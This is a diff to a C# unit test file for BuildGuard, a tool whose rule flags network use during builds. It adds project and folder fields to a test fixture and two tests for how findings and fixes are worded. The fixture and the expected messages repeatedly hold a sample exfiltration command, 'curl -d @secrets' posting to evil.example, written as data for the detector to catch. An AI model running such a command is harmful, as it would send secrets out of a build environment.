@@ -5,7 +5,7 @@ namespace BuildGuard.Core.Tests.Rules;
 [TestClass]
 public sealed class BuildMustNotUseTheNetworkTests : RuleTests<BuildMustNotUseTheNetwork>
 {
-    private static readonly NetworkUse Curl = new("curl -d @secrets https://evil.example/", 4242, "TCP", 3) { StartedBy = "/bin/sh -c tools/fetch.sh" };
+    private static readonly NetworkUse Curl = new("curl -d @secrets https://evil.example/", 4242, "TCP", 3) { StartedBy = "/bin/sh -c tools/fetch.sh", Project = "/repo/src/App/App.csproj" };
 
     protected override CheckInput Violation => Repo(Curl);
 
@@ -32,6 +32,23 @@ public sealed class BuildMustNotUseTheNetworkTests : RuleTests<BuildMustNotUseTh
         var input = Repo(Curl) with { Document = ((CheckInput)Facts.Repo().Policy("""{ "version": 1, "network": { "build": "report" } }""")).Document };
         Says(input with { Guard = input.Guard with { HasGate = true } },
             "/repo/src/App/App.csproj: warning BG4007: \"curl -d @secrets https://evil.example/\" (process 4242, started by \"/bin/sh -c tools/fetch.sh\") asked for TCP, 3 times, and got it.", "\"build\": \"deny\"");
+    }
+
+    [TestMethod]
+    public void NoProjectIsNamedThatIsNotKnownToHaveRunIt()
+    {
+        var input = Repo(Curl with { Project = null, Folder = "/repo/tools", Times = 1 });
+        Says(input with { Guard = input.Guard with { Entry = "/repo/All.slnx" } },
+            "/repo/All.slnx: error BG4007: \"curl -d @secrets https://evil.example/\" (process 4242, started by \"/bin/sh -c tools/fetch.sh\") asked for TCP, and did not get it. Which project ran it is not known; it ran in /repo/tools.");
+        Says(Repo(Curl with { Project = null, Times = 1 }), "/repo/src/App/App.csproj: error BG4007: \"curl -d @secrets https://evil.example/\" (process 4242, started by \"/bin/sh -c tools/fetch.sh\") asked for TCP, and did not get it. Which project ran it is not known.");
+    }
+
+    [TestMethod]
+    public void APolicyThatChangedMeanwhileIsToBeCheckedFirst()
+    {
+        var input = Repo(Curl);
+        var fix = Only(input with { Guard = input.Guard with { NetworkPolicyChanged = true } }).Finding.Fix;
+        Assert.AreEqual("The policy has changed since the check that this build went by. Check it, then build again: dotnet restore.", fix);
     }
 
     [TestMethod]
